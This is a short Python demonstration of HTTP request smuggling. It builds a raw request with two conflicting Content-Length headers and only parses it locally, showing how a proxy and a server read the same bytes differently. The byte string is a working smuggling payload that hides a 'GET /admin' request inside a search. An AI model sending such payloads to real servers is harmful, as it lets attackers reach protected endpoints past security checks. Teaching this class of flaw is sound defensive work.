"""Two programs read the same bytes differently, and a request hides inside another one."""

request = (
    b"POST /search HTTP/1.1\r\nHost: shop\r\n"
    b"Content-Length: 5\r\n"
    b"Content-Length: 44\r\n\r\n"
    b"q=abcGET /admin HTTP/1.1\r\nHost: shop\r\n\r\n"
)
head, _, rest = request.partition(b"\r\n\r\n")
lengths = [int(line.split(b":")[1]) for line in head.split(b"\r\n") if line.startswith(b"Content-Length")]

print("A proxy takes the last:  ", rest[: lengths[-1]])  # one harmless search, it thinks, and lets it pass
print("A server takes the first:", rest[: lengths[0]])  # the search, and then ...
print("... the next request is: ", rest[lengths[0] :].split(b"\r\n")[0])  # ... one that nobody has checked
